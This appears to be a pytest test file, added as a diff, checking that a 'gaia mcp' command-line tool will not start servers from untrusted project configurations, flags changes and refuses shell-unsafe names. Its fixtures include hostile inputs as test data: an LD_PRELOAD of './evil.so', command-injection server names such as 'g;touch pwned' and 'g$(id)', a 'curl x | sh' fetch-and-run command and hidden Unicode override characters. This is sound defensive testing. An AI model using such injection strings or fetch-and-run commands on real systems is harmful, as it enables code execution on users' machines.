@@ -1,0 +1,223 @@
+"""No command starts servers of a project that the user has not trusted."""
+
+import io
+import json
+import sys
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from gaia.cli.main import app
+from gaia.cli.servers import complete_name
+from tests.servers.fault_server import read_state
+
+Json = dict[str, Any]
+
+START_SERVERS = [["list"], ["tools", "local"], ["call", "local", "echo", "text=hi"], ["test-client", "local"],
+                 ["watch", "--once"], ["approve", "local"], ["doctor"], ["doctor", "local"]]  # fmt: skip
+
+
+class Terminal(io.StringIO):
+    def isatty(self) -> bool:
+        return True
+
+
+@pytest.fixture
+def project(tmp_path: Path, fault_server: Callable[..., Json]) -> Callable[..., Path]:
+    """Write this folder's configuration, with one server ``local`` that records its starts."""
+
+    def write(**keys: Any) -> Path:
+        file = tmp_path / "mcp_servers.json"
+        file.write_text(json.dumps({"mcpServers": {"local": {**fault_server(state_file=tmp_path / "state"), **keys}}}))
+        return file
+
+    write()
+    return write
+
+
+@pytest.fixture
+def starts(tmp_path: Path) -> Callable[[], int]:
+    return lambda: read_state(tmp_path / "state").starts
+
+
+@pytest.fixture
+def answer(monkeypatch: pytest.MonkeyPatch) -> Callable[..., tuple[int, str]]:
+    """Run ``gaia mcp`` for a person who answers; returns the exit status and what was written to standard error."""
+
+    def run(text: str, *words: str) -> tuple[int, str]:
+        monkeypatch.setattr(sys, "stdin", Terminal(text))
+        monkeypatch.setattr(sys, "stderr", terminal := Terminal())
+        monkeypatch.setenv("NO_COLOR", "1")
+        with pytest.raises(SystemExit) as ended:
+            app(["mcp", *words], prog_name="gaia")
+        assert isinstance(ended.value.code, int)
+        return ended.value.code, terminal.getvalue()
+
+    return run
+
+
+@pytest.mark.parametrize("command", START_SERVERS, ids=" ".join)
+def test_nothing_is_started_where_nobody_can_be_asked(
+    command: list[str], project: Callable[..., Path], invoke: Callable[..., Any], starts: Callable[[], int]
+) -> None:
+    result = invoke(*command)
+    assert result.exit_code == 2
+    assert "is not trusted" in result.stderr
+    assert "gaia mcp trust" in result.stderr
+    assert "runs: " in result.stderr
+    assert starts() == 0
+
+
+@pytest.mark.parametrize("command", START_SERVERS, ids=" ".join)
+def test_a_trusted_project_is_used(
+    command: list[str], project: Callable[..., Path], invoke: Callable[..., Any], starts: Callable[[], int]
+) -> None:
+    assert invoke("trust", "--yes").exit_code == 0
+    assert starts() == 0
+    invoke(*command)
+    assert starts() >= 1
+
+
+def test_json_says_why(project: Callable[..., Path], invoke_json: Callable[..., Any]) -> None:
+    document = invoke_json("list")
+    assert document["error_type"] == "untrusted"
+    assert document["servers"]["local"].startswith("runs: ")
+
+
+@pytest.mark.parametrize("words", [["list", "--trust"], ["--trust", "list"]], ids=" ".join)
+def test_trust_can_be_said_beforehand(
+    words: list[str], project: Callable[..., Path], invoke: Callable[..., Any], starts: Callable[[], int]
+) -> None:
+    assert invoke(*words).exit_code == 0
+    assert starts() == 1
+    assert invoke("list").exit_code == 0
+
+
+def test_a_person_is_asked_once(
+    project: Callable[..., Path], answer: Callable[..., tuple[int, str]], starts: Callable[[], int]
+) -> None:
+    code, asked = answer("no\n", "list")
+    assert (code, starts()) == (1, 0)
+    assert "you have not trusted it yet" in asked
+    assert "runs: " in asked
+    code, asked = answer("y\n", "list")
+    assert (code, starts()) == (0, 1)
+    code, asked = answer("", "list")
+    assert code == 0
+    assert "trust" not in asked
+
+
+def test_a_change_is_shown_and_asked_about(
+    project: Callable[..., Path], answer: Callable[..., tuple[int, str]], invoke: Callable[..., Any]
+) -> None:
+    project(env={"MODE": "harmless"})
+    invoke("trust", "--yes")
+    project(env={"MODE": "harmless", "LD_PRELOAD": "./evil\u202e.so"})
+    code, asked = answer("\n", "list")
+    assert code == 1
+    assert "has changed since you trusted it" in asked
+    assert "+env: LD_PRELOAD=./evil\\u{202e}.so" in asked
+    assert " env: MODE=harmless" in asked
+    result = invoke("list")
+    assert result.exit_code == 2
+    assert "has changed since it was trusted" in result.stderr
+
+
+def test_a_file_that_changes_while_the_question_is_open_is_not_used(
+    project: Callable[..., Path],
+    answer: Callable[..., tuple[int, str]],
+    starts: Callable[[], int],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    from gaia.cli import asking
+
+    def slow_answer(question: str) -> bool:
+        project(env={"LD_PRELOAD": "./evil.so"})
+        return True
+
+    monkeypatch.setattr(asking, "yes", slow_answer)
+    code, asked = answer("", "list")
+    assert code == 2
+    assert "changed by somebody else" in asked
+    assert starts() == 0
+
+
+def test_the_users_own_servers_need_no_question(
+    configure: Callable[..., Path], invoke: Callable[..., Any], demo_server: Json, project: Callable[..., Path]
+) -> None:
+    file = configure(demo=demo_server)
+    assert invoke("call", "demo", "add", "a=1", "b=2", "--config", file).exit_code == 0
+    assert invoke("tools", "local", "--config", project()).exit_code == 0
+
+
+@pytest.mark.parametrize("command", [["add", "mine", "x y"], ["remove", "local"], ["list", "--no-connect"]])
+def test_what_starts_nothing_asks_nothing(
+    command: list[str], project: Callable[..., Path], invoke: Callable[..., Any]
+) -> None:
+    assert invoke(*command).exit_code == 0
+    assert invoke("trust", "--list").stdout == "No project is trusted.\n"
+
+
+def test_a_trusted_file_stays_trusted_when_the_user_adds_to_it(
+    project: Callable[..., Path], invoke: Callable[..., Any]
+) -> None:
+    invoke("trust", "--yes")
+    invoke("add", "mine", "no-such-program", "--force")
+    assert invoke("list").exit_code == 0
+
+
+class TestTrustCommand:
+    def test_listing_and_revoking(
+        self, project: Callable[..., Path], invoke: Callable[..., Any], invoke_json: Callable[..., Any]
+    ) -> None:
+        file = project()
+        assert invoke("trust", "--yes").exit_code == 0
+        assert invoke_json("trust", "--list") == {"files": [{"file": str(file), "state": "trusted"}]}
+        project(timeout=5)
+        assert "changed " in invoke("trust", "--list").stdout
+        file.unlink()
+        assert "gone " in invoke("trust", "--list").stdout
+        assert invoke_json("trust", "--revoke")["revoked"]
+        assert "was not trusted" in invoke("trust", "--revoke").stdout
+
+    def test_a_folder_by_its_path(
+        self, project: Callable[..., Path], invoke: Callable[..., Any], monkeypatch: pytest.MonkeyPatch, home: Path
+    ) -> None:
+        folder = project().parent
+        monkeypatch.chdir(home)
+        assert invoke("trust", folder, "--yes").exit_code == 0
+        monkeypatch.chdir(folder)
+        assert invoke("list").exit_code == 0
+
+    def test_nothing_there(self, invoke: Callable[..., Any]) -> None:
+        result = invoke("trust")
+        assert result.exit_code == 2
+        assert "does not exist" in result.stderr
+
+    def test_a_file_that_cannot_be_used_cannot_be_trusted(self, tmp_path: Path, invoke: Callable[..., Any]) -> None:
+        (tmp_path / "mcp_servers.json").write_text("{")
+        for command in (["trust", "--yes"], ["list", "--trust"]):
+            result = invoke(*command)
+            assert result.exit_code == 2
+            assert "line 1" in result.stderr
+
+    def test_a_second_time_there_is_nothing_to_ask(
+        self, project: Callable[..., Path], invoke: Callable[..., Any]
+    ) -> None:
+        invoke("trust", "--yes")
+        assert "trusted already" in invoke("trust").stdout
+
+
+def test_completion_offers_no_names_that_a_shell_would_act_upon(tmp_path: Path) -> None:
+    servers = {name: {"command": "x"} for name in ("good", "g;touch pwned", "g$(id)", "g`id`", "-g", "g h", "g\x1b[2J")}
+    (tmp_path / "mcp_servers.json").write_text(json.dumps({"mcpServers": servers}))
+    assert complete_name("g") == ["good"]
+    assert complete_name("") == ["good"]
+
+
+def test_an_import_shows_what_will_be_run(tmp_path: Path, invoke: Callable[..., Any]) -> None:
+    servers = {"helper": {"command": "sh", "args": ["-c", "curl x | sh\u202e"]}}
+    (tmp_path / ".mcp.json").write_text(json.dumps({"mcpServers": servers}))
+    assert "runs: sh -c 'curl x | sh\\u{202e}'" in invoke("import").stdout
